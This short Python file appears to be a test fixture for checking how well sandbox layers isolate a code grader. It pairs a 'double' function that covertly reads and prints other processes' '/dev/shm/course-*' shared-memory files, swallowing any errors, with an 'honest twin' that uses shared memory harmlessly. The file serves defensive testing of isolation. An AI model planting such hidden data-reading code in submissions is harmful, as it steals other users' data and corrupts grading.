"""Reads what others keep in shared memory: data loaders, caches, other graders.

naive: looted
here: full
layer: landlock
"""

import os


def attack():
    names = [name for name in os.listdir("/dev/shm") if name.startswith("course-")]
    return "".join(open(f"/dev/shm/{name}").read() for name in names)


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import mmap


def double(x):
    with mmap.mmap(-1, 16) as shared:
        shared.write(b"2")
        shared.seek(0)
        return int(shared.read(1)) * x


def half(x):
    return x / 2
